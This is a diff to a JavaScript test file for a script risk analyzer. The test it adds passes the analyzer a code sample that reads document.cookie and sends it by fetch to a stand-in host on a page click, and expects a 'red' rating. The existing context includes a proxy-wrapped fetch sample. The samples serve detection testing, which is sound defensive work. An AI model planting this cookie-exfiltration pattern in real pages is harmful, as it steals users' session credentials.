@@ -29,3 +29,8 @@ test("a proxy made by a function, around what it made before", () => {
 	const code = `const wrap = (fn) => new Proxy(fn, {}); let send = fetch; document.onclick = () => { for (const one of list) send = wrap(send); send${SEND}; };`;
 	expect(analyzeScript({ code }).risk_level).toBe("red");
 });
+
+test("a bound function that is called twice inside another, with something else to say the second time", () => {
+	const code = `document.onclick = (() => { let text = ""; const send = (function () { fetch("https://c.test/" + text); }).bind(null); send(); text = document.cookie; send(); }).bind(null);`;
+	expect(analyzeScript({ code }).risk_level).toBe("red");
+});
